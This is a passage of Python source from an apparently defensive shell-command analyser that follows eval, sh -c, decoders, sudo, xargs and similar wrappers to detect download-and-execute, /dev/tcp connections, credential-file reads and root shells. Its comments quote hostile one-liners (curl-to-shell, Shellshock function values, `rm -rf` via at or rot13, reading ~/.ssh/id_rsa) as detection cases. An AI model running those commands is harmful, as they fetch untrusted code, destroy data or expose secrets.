    """The first well-known sensitive name a glob component matches.

    A shell glob's leading wildcard skips dotfiles; `find -name` (`dotfiles=True`) does not."""
    match = re.compile(fnmatch.translate(part)).match
    for name in GLOB_PROBES:
        if name.startswith(".") and not dotfiles and not part.startswith("."):
            continue
        if match(name):
            return name
    return None


def _glob_paths(pattern: str, state: _State, write: bool) -> None:
    """A glob touches its matches on disk and any well-known sensitive name it could match."""
    if (pattern, write) in state.globbed:  # read as an argument first, then as what `sed -i` edits
        return
    state.globbed.add((pattern, write))
    full = (
        canonical(pattern, state.cwd, state.home)
        if not pattern.startswith("/")
        else os.path.normpath(pattern)
    )
    if full.startswith("/") and not pattern.startswith(("/", "~")):
        full = os.path.normpath(
            os.path.join(state.cwd, os.path.expanduser(pattern) if not pattern.startswith("~") else pattern)
        )
    if pattern.startswith("~"):
        full = os.path.normpath(state.home + pattern[1:])
    state.note(f"glob:{full}")
    found = _bounded_glob(full, state)
    parts = full.split("/")
    probe: list[str] = []
    probed = False
    for part in parts:
        if any(c in part for c in "*?["):
            hit = _probe(part)
            if hit is None:
                probe = []
                break
            probe.append(hit)
            probed = True
        else:
            probe.append(part)
    wild = next((i for i, part in enumerate(parts) if any(c in part for c in "*?[")), len(parts))
    folder = "/".join(parts[:wild]) or "/"
    if probed and probe and not (is_within(folder, state.cwd) and os.path.isdir(folder)):
        # (in the project, the folder's own listing is the whole truth: `monitoring/*.yaml` is what is there)
        found.append("/".join(probe))
    elif not found and parts:
        # `~/.mozilla/firefox/*.default/logins.json`, `~/.password-store/*.gpg`: names only known by their
        # pattern; the pattern stands for them, so that where they lie and their names are still judged
        found.append(full)
    for match in found:
        path = canonical(match, state.cwd, state.home)
        state.paths.append(path)
        if write:
            state.write_paths.append(path)


# --------------------------------------------------------------------------- destinations


def _host(host: str, port: int | None, via: str, flags: tuple[str, ...] = ()) -> Destination | None:
    from limen.normalize import net

    host = host.strip().strip("[]").rstrip(".")
    if not host or len(host) > 253:
        return None
    return net.host_destination(host, port=port, via_command=via, flags=flags)


def _add_host(state: _State, host: str, port: int | None, via: str, flags: tuple[str, ...] = ()) -> None:
    dest = _host(host, port, via, flags)
    if dest is not None:
        state.destinations.append(dest)


def _s3api_written(operands: list[str]) -> list[str]:
    """The buckets an `aws s3api` call writes to (`put-object`, `upload-part`, `copy-object`, `put-bucket-*`):
    the bucket is where its body, metadata and settings go. Reads name none."""
    if "s3api" not in operands[:3]:
        return []
    verb = next((w for w in operands[operands.index("s3api") + 1 :] if not w.startswith("-")), "")
    if not verb.startswith(("put-", "upload", "copy-object", "create-multipart")):
        return []
    buckets = [operands[i + 1] for i, w in enumerate(operands[:-1]) if w == "--bucket"]
    buckets += [w.split("=", 1)[1] for w in operands if w.startswith("--bucket=")]
    return [b for b in buckets if b and "$" not in b and "`" not in b]


# A server by its address and port (`52.14.88.201:9092`)
# An address and port, bare or with the transport before it (`tcp:198.51.100.23:12345`, socat's and
# doveadm's way of naming a peer)
_ADDRESS_PORT = re.compile(r"^(?:(?:tcp|udp|ssl|tls)[46]?:)?(\d{1,3}(?:\.\d{1,3}){3}):(\d{2,5})$", re.I)
# A server's name and port (`ingest.example.io:9092`): a domain of two labels at least, the last letters
_NAME_PORT = re.compile(
    r"^(?:(?:tcp|udp|ssl|tls)[46]?:)?((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,24}):(\d{2,5})$", re.I
)


def _servers_named(operands: list[str], state: _State, via: str) -> None:
    """The servers an unknown tool is told to talk to by address (`kcat -b 52.14.88.201:9092 -P`, `doveadm
    backup -u USER tcp:198.51.100.23:12345`): where what it sends goes. Loopback addresses and those of the
    organisation's own networks (`net.organisation_network`) are the machine's and the network's own; an
    address from a documentation or reserved range stands for anyone's."""
    from limen.model import HostClass
    from limen.normalize import net

    for word in operands[:64]:
        for server in word.split(",")[:8]:
            value = server.split("=", 1)[-1]
            found = _ADDRESS_PORT.match(value) or _NAME_PORT.match(value)
            if found is None:
                continue
            where = net.host_destination(found.group(1), int(found.group(2)), via_command=via)
            if where.host_class is HostClass.PUBLIC or (
                where.host_class is HostClass.PRIVATE and not net.organisation_network(where)
            ):
                state.destinations.append(where)


def _urls(words: list[str], state: _State, via: str) -> None:
    from limen.facts.hosts import tenant_host
    from limen.normalize import net

    for word in words:
        if word[:7].lower() == "file://":  # `curl file:///root/.ssh/id_rsa`: a read of the file it names
            path = unquote(word[7:].split("?", 1)[0].split("#", 1)[0])
            if path.startswith("/"):
                _add_path(path, state, write=False)
            elif path.lower().startswith("localhost/"):
                _add_path(path[9:], state, write=False)
        elif "://" in word:
            scheme, _, rest = word.partition("://")
            tenant = tenant_host(rest.split("/", 1)[0])
            if tenant:  # `https://$ZENDESK_SUBDOMAIN.zendesk.com/api/v2`: the service, one tenant of it
                word = f"{scheme}://{tenant}/{rest.split('/', 1)[1] if '/' in rest else ''}"
            state.destinations.extend(net.destinations_in_text(word, via_command=via))


def _dev_tcp(target: str, state: _State) -> None:
    parts = target.split("/")
    if len(parts) >= 5:
        port = int(parts[4]) if parts[4].isdigit() else None
        _add_host(state, parts[3], port, "/dev/tcp")
    state.note("dev_tcp")


_HOSTPORT = re.compile(r"^(?:[\w.+-]+@)?(\[[0-9a-fA-F:.]+\]|[A-Za-z0-9_.-]+)(?::(\d{1,5}))?(?:[/:].*)?$")
# An address written out in full, then a variable the line does not know (the path that follows it)
_ADDRESS_THEN_VARIABLE = re.compile(r"^(\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?)\$")


def _host_word(
    word: str, state: _State, via: str, port: int | None = None, flags: tuple[str, ...] = ()
) -> None:
    if "://" in word:
        _urls([word], state, via)
        return
    match = _HOSTPORT.match(word)
    if match is None and (address := _ADDRESS_THEN_VARIABLE.match(word)):
        match = _HOSTPORT.match(address.group(1))  # `169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI`
    if match and not word.startswith(("/", ".", "~")):
        host = match.group(1)
        if "." in host or ":" in host or host == "localhost" or host.replace(".", "").isdigit():
            _add_host(state, host, int(match.group(2)) if match.group(2) else port, via, flags)


# --------------------------------------------------------------------------- handlers


def _h_cd(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    target = next((w for w in argv[1:] if not w.startswith("-")), "~")
    if "$" not in target and target != "-":
        state.cwd = canonical(target, state.cwd, state.home)
        state.paths.append(state.cwd)
        state.note(
            f"cd:{state.cwd}"
        )  # rules resolving relative operands consider every directory the line enters


def _h_echo(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> _Stream:
    if argv[0].endswith("printf") and len(argv) > 3 and argv[1] == "-v":  # `printf -v cmd %s rm`
        text = _printf(argv[3:])
        state.vars[argv[2]] = None if any(w in state.dynamic_words for w in argv[3:]) else text
        state.payloads.append(text)
        return _Stream("", (argv[0],))
    text = _echo(argv[1:]) if argv[0].endswith("echo") else _printf(argv[1:])
    state.payloads.append(text.rstrip("\n"))
    if any(_looks_like_path(w) and w.startswith(("/", "~")) for w in argv[1:]):
        for word in argv[1:]:
            if _looks_like_path(word) and word.startswith(("/", "~")):
                _add_path(word, state, write=False)
    return _Stream(text, (argv[0],))


def _h_read(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    """`read -r a b <<< 'rm -rf /'`, `read -a arr`: the variables take the words of known input."""
    _generic(argv, state, "read")
    names_: list[str] = []
    array = ""
    args = argv[1:]
    i = 0
    while i < len(args):
        word = args[i]
        if re.fullmatch(r"-[a-zA-Z]*a", word) and i + 1 < len(args):  # `-a NAME`, `-ra NAME`
            array = args[i + 1]
            i += 2
            continue
        if word in ("-p", "-d", "-t", "-n", "-N", "-u", "-i") and i + 1 < len(args):
            i += 2
            continue
        if not word.startswith("-"):
            names_.append(word)
        i += 1
    line = stdin.text.split("\n", 1)[0] if stdin is not None and stdin.text is not None else None
    fields = [f for f in _split_fields(line, state).split(_SPLIT) if f] if line is not None else None
    if array:
        state.arrays[array] = fields
        state.vars[array] = None if fields is None else (fields[0] if fields else "")
    names_ = names_ or (["REPLY"] if not array else [])
    for k, name in enumerate(names_):
        if fields is None:
            state.vars[name] = None
        elif k == len(names_) - 1:
            state.vars[name] = " ".join(fields[k:])
        else:
            state.vars[name] = fields[k] if k < len(fields) else ""


def _h_set(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    """`set -- rm -rf /`: the positional parameters become these words (`"$@"` then runs them)."""
    _generic(argv, state, "set")
    if "--" in argv:
        words = argv[argv.index("--") + 1 :]
        for n in ["@", "*", "#"] + [str(i) for i in range(1, 10)]:
            state.vars.pop(n, None)
        for i, word in enumerate(words[:9], 1):
            state.vars[str(i)] = None if word in state.dynamic_words else word
        state.vars["@"] = state.vars["*"] = " ".join(words)
        state.vars["#"] = str(len(words))
        state.arrays["@"] = None if any(w in state.dynamic_words for w in words) else words


_TR_CLASS = {"[:lower:]": "a-z", "[:upper:]": "A-Z", "[:digit:]": "0-9"}


def _tr_set(spec: str) -> str | None:
    """A `tr` set of literals and ranges (`a-z`, `N-ZA-M`), or None when it uses what is not modelled."""
    for name, repl in _TR_CLASS.items():
        spec = spec.replace(name, repl)
    if "[" in spec or "\\" in spec or len(spec) > 256:
        return None
    out: list[str] = []
    i = 0
    while i < len(spec):
        if i + 2 < len(spec) and spec[i + 1] == "-" and ord(spec[i]) <= ord(spec[i + 2]):
            out.extend(chr(c) for c in range(ord(spec[i]), ord(spec[i + 2]) + 1))
            i += 3
        else:
            out.append(spec[i])
            i += 1
    return "".join(out)


def _h_tr(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> _Stream | None:
    """`echo 'ez -es /' | tr a-z n-za-m | sh` (rot13): tr's output, when its input and sets are known."""
    _generic(argv, state, "tr")
    args = argv[1:]
    if stdin is None or stdin.text is None or any(a.startswith("-") and a != "-d" for a in args):
        return None
    text = stdin.text
    if args[:1] == ["-d"] and len(args) == 2:
        chars = _tr_set(args[1])
        if chars is None:
            return None
        decoded = text.translate({ord(c): None for c in chars})
    elif len(args) == 2:
        first, second = _tr_set(args[0]), _tr_set(args[1])
        if not first or not second:
            return None
        second = second + second[-1] * max(0, len(first) - len(second))
        decoded = text.translate({ord(a): b for a, b in zip(first, second, strict=False)})
    else:
        return None
    if decoded == text:
        return _Stream(text, (), stdin.decoders)
    state.payloads.append(decoded)
    return _Stream(decoded, (), (*stdin.decoders, "tr"))


def _h_at(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    """`echo 'rm -rf ~' | at now`, `at -f job.sh 10:00`: the commands `at` will run, analysed now."""
    _generic(argv, state, _basename(argv[0]))
    args = argv[1:]
    if any(w in ("-l", "-r", "-d", "-c", "-q") for w in args[:1]):
        return
    script = next((args[i + 1] for i, w in enumerate(args[:-1]) if w == "-f"), "")
    if script:
        _add_path(script, state, write=False)
        _run_written(canonical(script, state.cwd, state.home), "at", "sh", state, via, level, [])
    elif stdin is not None and stdin.text is not None:
        _analyse_text(stdin.text, state, via=(*via, "at"), level=level + 1)
    elif stdin is not None and stdin.sources:
        state.flag(f"at runs commands from the output of {stdin.sources[-1]}")


def _h_cat(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> _Stream | None:
    files = _operands(argv[1:], frozenset())
    _generic(argv, state, "cat")
    if (not files or files == ["-"]) and stdin is not None:
        return _Stream(stdin.text, stdin.sources, stdin.decoders)
    return None


def _h_decode(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> _Stream | None:
    """base64 -d, xxd -r, rev and friends: decode static input so a later shell sees the plain text."""
    name = _basename(argv[0])
    args = argv[1:]
    label = ""
    if name in ("base64", "base32", "basenc") and any(
        a in ("-d", "--decode", "-D") or re.fullmatch(r"-\w*d\w*", a) for a in args
    ):
        label = f"{name} -d"
    elif name == "xxd" and any(re.fullmatch(r"-\w*r\w*", a) or a == "--revert" for a in args):
        label = "xxd -r"
    elif name == "openssl" and "-d" in args and any(a in ("base64", "-base64", "-a", "enc") for a in args):
        label = "base64 -d"
    elif name == "rev":
        label = "rev"
    _generic(argv, state, name)
    if not label:
        return None
    files = _operands(args, frozenset({"-w", "-i", "-c", "-s", "-l", "-o", "-in", "-out"}))
    if name == "openssl":
        files = []
    if files:
        return _Stream(None, (), (label,))
    if stdin is None or stdin.text is None:
        return _Stream(None, (), (label,))
    decoded = _decode(label, stdin.text)
    if decoded is None:
        state.flag(f"{label}: input does not decode")
        return _Stream(None, (), (label,))
    state.payloads.append(decoded)
    return _Stream(decoded, (), (*stdin.decoders, label))


def _decode(label: str, text: str) -> str | None:
    try:
        if label.startswith("base64"):
            cleaned = re.sub(r"\s+", "", text)
            raw = base64.b64decode(cleaned + "=" * (-len(cleaned) % 4))
        elif label.startswith("base32"):
            cleaned = re.sub(r"\s+", "", text).upper()
            raw = base64.b32decode(cleaned + "=" * (-len(cleaned) % 8))
        elif label == "xxd -r":
            cleaned = re.sub(r"[^0-9a-fA-F]", "", text)
            raw = bytes.fromhex(cleaned)
        elif label == "rev":
            return "\n".join(line[::-1] for line in text.rstrip("\n").split("\n")) + "\n"
        else:
            return None
    except (binascii.Error, ValueError):
        return None
    return raw.decode("utf-8", "replace")


@contextlib.contextmanager
def _cwd(state: _State, cwd: str) -> Iterator[None]:
    """Analyse in `cwd` (`make -C dir`, a task runner's `--prefix`), then return to the line's directory."""
    saved, state.cwd = state.cwd, cwd
    try:
        yield
    finally:
        state.cwd = saved


@contextlib.contextmanager
def _positional(state: _State, words: list[str]) -> Iterator[None]:
    """Bind $0, $1... and $@ for a nested script, restoring the outer ones after."""
    names = ["@", "*", "#"] + [str(i) for i in range(10)]
    saved = {n: state.vars[n] for n in names if n in state.vars}
    for n in names:
        state.vars.pop(n, None)
    for i, word in enumerate(words[:10]):
        state.vars[str(i)] = None if word in state.dynamic_words else word
    saved_args = state.arrays.pop("@", None)
    if words:
        state.vars["@"] = state.vars["*"] = " ".join(words[1:])
        state.vars["#"] = str(len(words) - 1)
        state.arrays["@"] = None if any(w in state.dynamic_words for w in words[1:]) else words[1:]
    try:
        yield
    finally:
        for n in names:
            state.vars.pop(n, None)
        state.vars.update(saved)
        state.arrays.pop("@", None)
        if saved_args is not None:
            state.arrays["@"] = saved_args


def _shell_string(
    text: str,
    state: _State,
    via: tuple[str, ...],
    level: int,
    dynamic: bool,
    label: str,
    stdin: _Stream | None = None,
) -> None:
    if dynamic:
        if _from_download(text, state):
            state.note("download_exec")  # `bash -c "$(curl ...)"`
        state.flag(f"{label} of a non-literal string")
    _analyse_text(text, state, via=(*via, label), level=level + 1, stdin=stdin)


def _h_shell(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    name = _basename(argv[0])
    args = argv[1:]
    i = 0
    command: str | None = None
    from_stdin = False  # `bash -s ARGS`: commands from stdin, the operands are $1...
    while i < len(args):
        word = args[i]
        if word in ("-o", "+o", "-O", "+O", "--rcfile", "--init-file"):
            i += 2
            continue
        if word.startswith("-") and not word.startswith("--") and "c" in word[1:]:
            command = args[i + 1] if i + 1 < len(args) else ""
            break
        if word == "--" or not word.startswith(("-", "+")):
            break
        from_stdin = from_stdin or (word.startswith("-") and not word.startswith("--") and "s" in word[1:])
        i += 1
    if command is not None:
        extra = args[args.index(command) + 1 :] if command in args else []
        with _positional(
            state, extra
        ):  # `sh -c '$0 -rf "$1"' rm /`: $0, $1... are the words after the string
            _shell_string(command, state, via, level, _is_dynamic(command, state), f"{name} -c")
        return
    operands = args[i:]
    if operands and operands[0] in _STDIN_FILES:  # `bash /dev/stdin <<< CODE` reads its stdin
        operands = ["-", *operands[1:]]
    if from_stdin:
        operands = ["-"]
    if operands and operands[0] != "-":
        script = operands[0]
        if script.startswith(("<(", "/dev/fd/", "/proc/self/fd")):
            state.note("download_exec" if _from_download(script) else "shell runs a substituted script")
            state.flag(f"{name} runs a script from a substitution")
            return
        _add_path(script, state, write=False)
        path = canonical(script, state.cwd, state.home)
        _runs_fetched(script, path, state)
        _run_written(path, name, "sh", state, via, level, operands[1:])
        return
    if stdin is not None and stdin.text is not None:
        label = stdin.decoders[-1] if stdin.decoders else "stdin"
        _analyse_text(stdin.text, state, via=(*via, label), level=level + 1)
    elif stdin is not None and stdin.sources:
        state.flag(f"{name} runs commands from the output of {stdin.sources[-1]}")
    else:  # `env /bin/sh`, `find . -exec /bin/sh \;`, `vim -c ':!sh'`: whatever reaches it runs
        state.flag(f"{name} starts an interactive shell: the commands it will run are not in the call")


def _runs_fetched(word: str, path: str, state: _State) -> None:
    """The line runs a file it fetched: one it downloaded (a `curl -o` target) is `download_exec`; one inside
    a repository it cloned is flagged instead (code from a checkout: asked, as an official installer is)."""
    if path.startswith("/"):
        state.note(RUNS_FILE + path)
    unpacked = any(path.startswith(d + "/") for d in state.unpacked)  # `... | tar xz -C /tmp && /tmp/x/run`
    if word in state.downloaded or path in state.downloaded or unpacked:
        state.note("download_exec")
    elif any(path.startswith(d + "/") for d in state.cloned):
        state.flag("runs code from a repository the line cloned")


_SUBSTITUTED_PROGRAM = re.compile(r"^\s*\"?(?:<\(|\$\(|`)\s*(?:\S+/)?([\w.+-]+)")
_VARIABLE_WORD = re.compile(r"^\s*\"?\$\{?(\w+)\}?\"?\s*$")


def _from_download(word: str, state: _State | None = None) -> bool:
    """The word is what a download prints: a substitution of a program that downloads (`$(curl -s URL)`,
    `<(wget -qO- URL)`), or a variable the line assigned one (`c=$(curl ...); eval "$c"`)."""
    return bool(_download_source(word, state))


def _download_source(word: str, state: _State | None) -> str:
    """The downloading program `_from_download` found in the word, or ""."""
    match = _SUBSTITUTED_PROGRAM.match(word)
    if match is not None and (match.group(1) in DOWNLOADERS or match.group(1) in ("nc", "ncat", "fetch")):
        return match.group(1)
    if state is None or not state.downloaded_vars:
        return ""
    named = _VARIABLE_WORD.match(word)
    return "curl" if named is not None and named.group(1) in state.downloaded_vars else ""


def _is_dynamic(text: str, state: _State) -> bool:
    """The word is (almost) wholly a substitution or expansion of the outer line: its content is unknown.

    `perl -pe "s/$old/$new/"` keeps its program and stays analysable; `bash -c "$(curl ...)"` does not."""
    if text not in state.dynamic_words:
        return False
    return len(_EXPANSIONS.sub("", text).strip()) < 4


_EXPANSIONS = re.compile(r"\$\((?:[^()]|\([^()]*\))*\)|`[^`]*`|\$\{[^}]*\}|\$[\w@*#?!$-]|<\([^)]*\)")


_SUBSTITUTED = re.compile(r"^\s*(?:\$\((?P<a>[^()`]*)\)|`(?P<b>[^()`]*)`|<\((?P<c>[^()`]*)\))\s*$")


def _setup_line(word: str) -> bool:
    """`$(pyenv init -)`, `<(kubectl completion bash)`: the word is what a known tool prints as its own shell
    integration (`facts.programs.prints_setup`), which rc files evaluate every day."""
    import shlex

    match = _SUBSTITUTED.match(word)
    if match is None:
        return False
    try:
        inner = shlex.split(match.group("a") or match.group("b") or match.group("c") or "")
    except ValueError:
        return False
    return prints_setup(inner)


def _h_eval(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    text = " ".join(argv[1:])
    if len(argv) == 2 and _setup_line(argv[1]):
        return  # the substitution itself was analysed as a command where it stands
    if any(_is_dynamic(w, state) for w in argv[1:]):
        if any(_from_download(w) for w in argv[1:]):
            state.note("download_exec")
        state.flag("eval of a non-literal string")
    _analyse_text(text, state, via=(*via, "eval"), level=level + 1)


def _h_alias_trap(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> None:
    """`alias x='...'` and `trap '...' EXIT` hold shell code that runs later in the same shell."""
    if argv[0] == "trap":
        operands = _operands(argv[1:], frozenset())
        if operands:
            _shell_string(operands[0], state, via, level, _is_dynamic(operands[0], state), "trap")
        return
    state.deferred += 1
    try:
        for word in argv[1:]:
            if "=" in word and not word.startswith("-"):
                body = word.split("=", 1)[1]
                _analyse_text(body, state, via=(*via, "alias"), level=level + 1, lenient=True)
    finally:
        state.deferred -= 1


_STDIN_FILES = frozenset({"/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})


def _h_source(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> None:
    operands = argv[1:]
    if not operands:
        return
    script = operands[0]
    if script in _STDIN_FILES and stdin is not None and (stdin.text is not None or stdin.sources):
        _h_shell(["sh", "-s"], state, (*via, argv[0]), level, stdin)  # `. /dev/stdin <<< CODE`
        return
    if _setup_line(script):
        return  # `source <(kubectl completion bash)`: the tool's own shell integration
    if script.startswith(("<(", "/dev/fd/", "/dev/stdin", "/proc/self/fd")) or (
        _is_dynamic(script, state) and script.startswith(("$(", "`"))
    ):
        if _from_download(script):
            state.note("download_exec")
        state.flag("source of a script generated by the line")
        return
    _add_path(script, state, write=False)  # its path is known; its content only if the line wrote it
    path = canonical(script, state.cwd, state.home)
    _runs_fetched(script, path, state)
    _run_written(path, argv[0], "sh", state, via, level, operands[1:])


def _h_wrapper(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> _Stream | None:
    name = _basename(argv[0])
    with_arg = options(name)
    args = argv[1:]
    i = 0
    while i < len(args):
        word = args[i]
        if word == "--":
            i += 1
            break
        if not word.startswith("-") or word == "-":
            break
        if name == "command" and word in ("-v", "-V"):
            return None  # a lookup, not an execution
        if word in with_arg:
            i += 2
            continue
        if name in ("sudo", "doas") and word in ("-s", "-i") and i + 1 >= len(args):
            _record(state, Command(argv=("sh",), name="sh", via=(*via, name)))
            state.flag(f"{name} {word} starts an interactive shell: what it will run is not in the call")
            return None
        i += 1
    rest = args[i:]
    entry = program(name)
    skip = entry.skip_operands if entry is not None else 0
    if name == "chroot" and rest:
        _add_path(rest[0], state, write=False)
    if name == "capsh":  # `capsh --uid=0 -- -c CMD`: bash with what follows `--` (`capsh --print`: none)
        if "--" not in args:
            return None
        rest = ["bash", *args[args.index("--") + 1 :]]
    rest = rest[skip:]
    if name == "flock" and rest and rest[0] in ("-c", "--command") and len(rest) > 1:
        _shell_string(rest[1], state, via, level, _is_dynamic(rest[1], state), "flock -c")
        return None
    if not rest and entry is not None and entry.shell and (skip == 0 or len(args[i:]) >= skip):
        _record(state, Command(argv=("sh",), name="sh", via=(*via, name)))
        state.flag(f"{name} starts an interactive shell: the commands it will run are not in the call")
        return None
    if name in ("sudo", "doas"):
        while rest and re.fullmatch(r"\w+=.*", rest[0], re.S):  # the command's environment, as `env` sets it
            variable, _, value = rest[0].partition("=")
            if runs_value(variable, value):
                _command_variable(variable, value, state, via, level)  # `sudo PAGER='sh -c ...' git -p help`
            rest = rest[1:]
    if not rest:
        return None
    if has(name, Role.PRIVILEGED):
        inner = program(_basename(rest[0]))
        if inner is not None and (
            Role.SHELL_ESCAPE in inner.roles or (Role.INTERPRETER in inner.roles and len(rest) == 1)
        ):  # `sudo less FILE`, `sudo python3`: `!sh` (or any code) typed in runs as root
            state.flag(f"{name} {_basename(rest[0])}: an interactive program run as root starts a root shell")
    if name == "watch":
        _shell_string(" ".join(rest), state, via, level, False, "watch")
        return None
    return _run(rest, state, (*via, name), level, stdin)


def _h_env(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> _Stream | None:
    args = argv[1:]
    i = 0
    while i < len(args):
        word = args[i]
        if word in ("-u", "--unset", "-C", "--chdir"):
            i += 2
            continue
        if word in ("-S", "--split-string") and i + 1 < len(args):
            _shell_string(" ".join(args[i + 1 :]), state, via, level, False, "env -S")
            return None
        if word.startswith("--split-string="):
            _shell_string(
                word.split("=", 1)[1] + " " + " ".join(args[i + 1 :]), state, via, level, False, "env -S"
            )
            return None
        if word == "--":
            i += 1
            break
        if word.startswith("-") and word != "-":
            i += 1
            continue
        if re.fullmatch(r"\w+=.*", word, re.S):
            name, _, value = word.partition("=")
            if runs_value(name, value):
                _command_variable(name, value, state, via, level)
            if name in CODE_LOADING_VARIABLES:
                _code_loading_variable(name, value, state)
            _exported_function(value, state, via, level)
            _limen_variable(name, state)
            i += 1
            continue
        break
    rest = args[i:]
    if not rest:
        return None
    return _run(rest, state, (*via, "env"), level, stdin)


LIMEN_VARIABLE = "limen_env:"  # a note: the line sets or unsets one of Limen's own variables


def _limen_variable(name: str, state: _State) -> None:
    """`LIMEN_HOME=/dev/null claude -p ...`, `export LIMEN_SERVER=...`, `unset LIMEN_HOME`: Limen's own
    settings changed for what the line (or the shell, later) starts; noted for the installation rule."""
    if name.startswith("LIMEN_"):
        state.note(LIMEN_VARIABLE + name)


def _exported_function(value: str, state: _State, via: tuple[str, ...], level: int) -> None:
    """`X='() { :;}; curl URL | sh' bash -c true`: a value bash imports as a function, whose body (and, on a
    shell that is not patched, whatever follows it: Shellshock) runs; both analysed as shell lines."""
    stripped = value.lstrip()
    if not stripped.startswith("()"):
        return
    body, _, after = stripped[2:].strip().partition("}")
    for text in (body.lstrip("{ "), after.lstrip("; ")):
        if text.strip():
            _shell_string(text, state, via, level, False, "exported function")


def _cmake_mode(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> _Stream | None:
    """`cmake -E rm -rf DIR` is the command it names; `cmake -P script.cmake` runs the script's calls, read
    as the shell lines they amount to (`limen.normalize.cmake`), from the text the line wrote or the disk."""
    from limen.normalize import cmake

    args = argv[1:]
    if "-E" in args:
        inner = cmake.tool_command(args[args.index("-E") + 1 :])
        return _run(inner, state, (*via, "cmake -E"), level, stdin) if inner else None
    at = args.index("-P") + 1
    if at >= len(args):
        return None
    _add_path(args[at], state, write=False)
    path = canonical(args[at], state.cwd, state.home)
    _runs_fetched(args[at], path, state)
    text = state.written.get(path)
    if text is None:
        text = read_source(path, state.cwd, state.home)
    if text is None:
        state.flag("cmake runs a script that is not read")
        return None
    state.payloads.append(text)
    lines = cmake.command_lines(text)
    if lines:
        _analyse_text("\n".join(lines), state, via=(*via, "cmake script"), level=level + 1)
    return None


def _h_busybox(
    argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
) -> _Stream | None:
    rest = [w for w in argv[1:]]
    while rest and rest[0].startswith("-"):
        rest = rest[1:]
    if not rest:
        return None
    return _run(rest, state, (*via, "busybox"), level, stdin)


def _h_su(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    args = argv[1:]
    for i, word in enumerate(args):
        if word in ("-c", "--command") and i + 1 < len(args):
            _shell_string(args[i + 1], state, via, level, _is_dynamic(args[i + 1], state), "su -c")
            return
        if word.startswith("--command="):
            text = word.split("=", 1)[1]
            _shell_string(text, state, via, level, _is_dynamic(text, state), "su -c")
            return


_XARGS_OPTS = frozenset(
    {
        "-a",
        "-d",
        "-E",
        "-e",
        "-I",
        "-i",
        "-L",
        "-l",
        "-n",
        "-P",
        "-s",
        "--arg-file",
        "--delimiter",
        "--eof",
        "--replace",
        "--max-lines",
        "--max-args",
        "--max-procs",
        "--max-chars",
        "--process-slot-var",
    }
)


def _destroys_infrastructure(name: str) -> bool:
    """Whether the program deletes cloud or cluster resources by the names it is given (`kubectl delete`)."""
    entry = program(_basename(name))
    return entry is not None and Role.INFRA_DESTROYER in entry.roles


def _listed_kind(name: str, state: _State) -> str:
    """`ns/` when the line's last command of program `name` was `NAME get ns ...` (a listing of one kind)."""
    base = _basename(name)
    for command in reversed(state.commands):
        if command.name == base:
            argv = command.argv
            if len(argv) > 2 and argv[1] == "get" and not argv[2].startswith("-"):
                return argv[2].split("/")[0] + "/"
            return ""
    return ""


def _h_xargs(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    name = _basename(argv[0])
    args = argv[1:]
    replace: str | None = None
    null = False
    i = 0
    while i < len(args):
        word = args[i]
        if word == "--":
            i += 1
            break
        if not word.startswith("-"):
            break
        if word in ("-0", "--null"):
            null = True
        if word in ("-I", "--replace") and i + 1 < len(args):
            replace = args[i + 1]
        elif word.startswith("-I") and len(word) > 2:
            replace = word[2:]
        elif word.startswith(("-i", "--replace=")):
            replace = word.split("=", 1)[1] if "=" in word else (word[2:] or "{}")
        if word in ("-a", "--arg-file") and i + 1 < len(args):
            _add_path(
                args[i + 1], state, write=False
            )  # `xargs -a /proc/PID/environ`: its items come from there
        elif word.startswith("--arg-file="):
            _add_path(word.split("=", 1)[1], state, write=False)
        if word in _XARGS_OPTS:
            i += 2
            continue
        i += 1
    inner = args[i:] or ["echo"]
    if name == "parallel" and ":::" in inner:
        cut = inner.index(":::")
        items = inner[cut + 1 :]
        inner = inner[:cut]
        # GNU parallel runs each job through a shell: the command and its argument, or the argument alone
        # (`parallel ::: 'curl X | sh'`), is a shell line
        if len(items) > 16:
            state.flag("parallel input longer than the bound")
        for item in items[:16]:
            words = [w.replace("{}", item) for w in inner] if "{}" in inner else [*inner, item]
            line = " ".join(words)
            _shell_string(line, state, (*via, name), level, _is_dynamic(line, state), "parallel")
        return
    tagged = (*via, name)
    if stdin is not None and stdin.sources:
        tagged = (*tagged, "stdin:" + ",".join(stdin.sources))
    if stdin is None or stdin.text is None:
        state.note(f"{name} with unknown input")
        if stdin is not None and any(s in DOWNLOADERS for s in stdin.sources) and runs_arguments(inner[0]):
            state.note("download_exec")  # `curl URL | xargs -0 bash -c`: the download is the program
        if not replace and _destroys_infrastructure(inner[0]):
            # `kubectl get ns -o name | xargs kubectl delete`: the input names what it deletes, unseen, of the
            # kind the same program listed upstream (`ns/{}`)
            inner = [*inner, _listed_kind(inner[0], state) + "{}"]
        _run(inner, state, tagged, level, None)
        return
    items = [s for s in (stdin.text.split("\0") if null else stdin.text.split()) if s]
    if len(items) > (16 if replace else 64):
        state.flag(f"{name} input longer than the bound")
    items = items[:64]
    if replace:
